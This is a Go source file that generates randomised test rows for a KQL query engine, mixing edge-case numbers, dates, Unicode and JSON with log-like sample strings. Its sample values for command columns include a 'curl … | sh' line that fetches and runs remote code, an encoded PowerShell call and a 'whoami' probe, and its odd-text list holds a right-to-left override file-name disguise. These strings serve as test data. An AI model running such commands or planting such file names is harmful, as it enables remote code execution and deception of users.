package trial

import (
	"encoding/json"
	"hash/fnv"
	"math/rand/v2"
	"strconv"
	"strings"

	"github.com/kqlc/kqlc/kql"
)

// maker makes up the rows of one table. The same plan gives the same values of a column, whatever other columns are read.
type maker struct {
	plan  Plan
	table string
	hints Hints
	n     int
	rand  *rand.Rand
	texts [][]byte // what columns were set to
}

func newMaker(plan Plan, table string, hints Hints) *maker {
	return &maker{plan: plan, table: table, hints: hints}
}

// row sets the columns to the next row.
func (m *maker) row(columns []kql.Column) {
	m.n++
	m.texts = m.texts[:0]
	for _, c := range columns {
		h := fnv.New64a()
		h.Write([]byte(m.table + "." + c.Name))
		m.rand = rand.New(rand.NewPCG(m.plan.Seed+uint64(m.n), h.Sum64()))
		m.set(c)
	}
}

// spoil overwrites the texts of a row that has been pushed: a rule that keeps one has to have copied it.
func (m *maker) spoil() {
	for _, t := range m.texts {
		for i := range t {
			t[i] = '#'
		}
	}
}

// set sets one column: mostly to a value that the query asks for.
func (m *maker) set(c kql.Column) {
	hint := m.hints[c.Name]
	if m.rand.IntN(12) == 0 {
		c.Field.SetNull()
		return
	}
	text := m.value(c, hint)
	b := []byte(text)
	m.texts = append(m.texts, b)
	switch c.Type {
	case kql.TypeBool, kql.TypeInt, kql.TypeLong, kql.TypeReal, kql.TypeDynamic:
		c.Field.SetJSON(b)
	default:
		c.Field.SetText(b)
	}
}

func (m *maker) value(c kql.Column, hint Hint) string {
	if c.Name == kql.Rest {
		return `{"Note":` + m.scalar(hint) + `,"Other name":` + m.scalar(hint) + "}"
	}
	switch c.Type {
	case kql.TypeBool:
		return pick(m, "true", "false")
	case kql.TypeInt, kql.TypeLong, kql.TypeReal, kql.TypeDecimal:
		return m.number(c.Type, hint)
	case kql.TypeDateTime:
		return m.time().String()
	case kql.TypeTimeSpan:
		return (kql.TimeSpan(m.rand.Int64N(int64(3*kql.Day))) - kql.Hour).String()
	case kql.TypeGUID:
		return "12345678-9abc-def0-1234-56789abcdef" + strconv.Itoa(m.rand.IntN(4))
	case kql.TypeDynamic:
		return m.document(hint, 3)
	}
	if len(hint.Keys) > 0 && m.rand.IntN(4) > 0 {
		return m.document(hint, 3)
	}
	return m.text(c.Name, hint.Words)
}

func pick(m *maker, values ...string) string { return values[m.rand.IntN(len(values))] }

func (m *maker) number(t kql.Type, hint Hint) string {
	if len(hint.Words) > 0 && m.rand.IntN(4) > 0 {
		if n, err := strconv.ParseInt(pick(m, hint.Words...), 10, 32); err == nil {
			return strconv.FormatInt(n+int64(max(0, m.rand.IntN(6)-3)), 10)
		}
	}
	switch n := m.rand.IntN(20); {
	case n == 0 && t == kql.TypeLong:
		return pick(m, "9223372036854775807", "-9223372036854775808")
	case n == 0 && t == kql.TypeInt:
		return pick(m, "2147483647", "-2147483648")
	case n == 0, n == 1 && t == kql.TypeReal:
		return "1e300"
	case n < 4 && t != kql.TypeInt && t != kql.TypeLong:
		return strconv.FormatFloat(m.rand.NormFloat64()*100, 'f', 3, 64)
	case n < 12:
		return strconv.Itoa(m.rand.IntN(12) - 1)
	}
	return strconv.Itoa(m.rand.IntN(100000))
}

// time is mostly of the last days.
func (m *maker) time() kql.DateTime {
	switch m.rand.IntN(40) {
	case 0:
		return kql.MinDateTime
	case 1:
		return kql.MaxDateTime
	case 2, 3, 4, 5, 6, 7:
		return m.plan.Now - kql.DateTime(m.rand.Int64N(int64(90*kql.Day)))
	}
	return m.plan.Now - kql.DateTime(m.rand.Int64N(int64(kql.Day/2)))
}

// odd are texts that are seldom thought of.
var odd = []string{
	"", " ", "\t\r\n", "\x00", "\xff\xfe", "é", "ß", "İstanbul", "ſ", "K", "日本語 テキスト", "👩‍💻", "\u202ecod.exe", "a\u0301", "𝒜",
	"null", "NaN", "-", "\\\\server\\share\\x", `{"a":1`, "[", "'", `"`, "%00", "..", strings.Repeat("x", 300), "2021-02-30", "1.2.3.4.5", "::1",
}

// usual are texts that logs hold, by what a column's name says.
var usual = []struct {
	part   string
	values []string
}{
	{"ip", []string{"10.0.0.5", "192.168.1.20", "203.0.113.7", "2001:db8::1", "8.8.8.8", "10.1.2.3:443"}},
	{"url", []string{"https://example.com/a/b?x=1&y=%20#z", "http://10.0.0.5:8080/login", "ftp://u:p@files.example.org", "example.com"}},
	{"version", []string{"10.0.19044.1", "1.2", "7.0.0-beta"}},
	{"command", []string{`"C:\Windows\System32\cmd.exe" /c whoami`, "powershell -enc SQBFAFgA", "bash -c 'curl http://203.0.113.7 | sh'"}},
	{"path", []string{`C:\Windows\System32`, "/usr/bin", `\\server\share\dir`}},
	{"time", []string{"2026-11-20T08:00:00Z", "11/20/2026 8:00:00 AM", "1763625600"}},
	{"id", []string{"12345678-9abc-def0-1234-56789abcdef0", "0x3e7", "S-1-5-18", "4688"}},
	{"", []string{"user@contoso.com", "ADMIN", "Success", "cmd.exe", "example.com", "1", "true", "a;b;c", "a,b|c d"}},
}

func (m *maker) text(column string, words []string) string {
	switch n := m.rand.IntN(20); {
	case n == 0:
		return pick(m, odd...)
	case n > 3 && len(words) > 0:
		return m.sentence(words)
	}
	column = strings.ToLower(column)
	for _, u := range usual {
		if strings.Contains(column, u.part) {
			return pick(m, u.values...)
		}
	}
	panic("unreachable: the last of usual is for all columns")
}

// sentence joins words, some of them changed.
func (m *maker) sentence(words []string) string {
	var b strings.Builder
	n := 1
	if m.rand.IntN(3) == 0 {
		n += m.rand.IntN(4)
	}
	for i := range n {
		if i > 0 {
			b.WriteString(pick(m, " ", " ", "", ".", `\`, "/", ",", "é"))
		}
		word := pick(m, words...)
		switch m.rand.IntN(12) {
		case 0:
			word = strings.ToUpper(word)
		case 1:
			word = strings.ToLower(word)
		case 2:
			word = strings.NewReplacer("k", "K", "s", "ſ", "I", "İ", "i", "ı").Replace(word)
		case 3:
			word = word[m.rand.IntN(len(word)+1):]
		}
		b.WriteString(word)
	}
	return b.String()
}

// document is JSON, mostly with the properties that the query takes.
func (m *maker) document(hint Hint, depth int) string {
	keys := hint.Keys
	switch n := m.rand.IntN(10); {
	case depth == 0 || n == 0:
		return m.scalar(hint)
	case n < 3:
		var b strings.Builder
		b.WriteByte('[')
		for i := range m.rand.IntN(4) {
			if i > 0 {
				b.WriteByte(',')
			}
			b.WriteString(m.document(hint, depth-1))
		}
		b.WriteByte(']')
		return b.String()
	case len(keys) == 0:
		keys = []string{"a", "name", "Value"}
	}
	var b strings.Builder
	b.WriteByte('{')
	for _, k := range keys {
		if m.rand.IntN(8) == 0 || depth < 3 && m.rand.IntN(len(keys)) > 3 {
			continue
		}
		if b.Len() > 1 {
			b.WriteByte(',')
		}
		b.WriteString(quote(k) + ":")
		if m.rand.IntN(2) == 0 {
			b.WriteString(m.scalar(hint))
		} else {
			b.WriteString(m.document(hint, depth-1))
		}
	}
	b.WriteByte('}')
	return b.String()
}

func (m *maker) scalar(hint Hint) string {
	switch m.rand.IntN(8) {
	case 0:
		return pick(m, "null", "true", "false", "0", "-1.5e3", "12345678901234567890", `""`)
	case 1:
		return m.number(kql.TypeLong, hint)
	case 2:
		return quote(m.time().String())
	}
	return quote(m.text("", hint.Words))
}

func quote(s string) string {
	out, err := json.Marshal(s)
	if err != nil {
		panic(err) // a text is always JSON
	}
	return string(out)
}
